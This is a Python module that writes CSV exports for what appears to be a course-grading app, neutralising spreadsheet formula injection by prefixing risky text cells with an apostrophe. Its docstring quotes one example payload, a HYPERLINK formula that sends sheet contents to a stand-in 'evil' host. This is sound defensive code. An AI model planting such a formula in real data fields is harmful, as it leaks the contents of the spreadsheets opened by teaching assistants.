"""The one CSV writer of the app: every cell neutralised against spreadsheet formulas.

A TA opens grades.csv, the LMS layouts, the scoreboard's CSV and the sign-in links in Excel,
LibreOffice or Google Sheets, which run a cell that starts with = + - @ (or a tab or carriage
return before one) as a formula: a display name of `=HYPERLINK("https://evil/?"&A2, "x")` would
send the sheet's contents away when clicked. Such a text cell gets a leading apostrophe, which
spreadsheets show as text and never evaluate (OWASP's "CSV injection"). A plain number ("-1.5")
is left as it is: it cannot be a formula and must stay a number.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """`value` as a cell no spreadsheet evaluates: a text that would start a formula gets "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """The rows as CSV text (the csv module's dialect), every cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
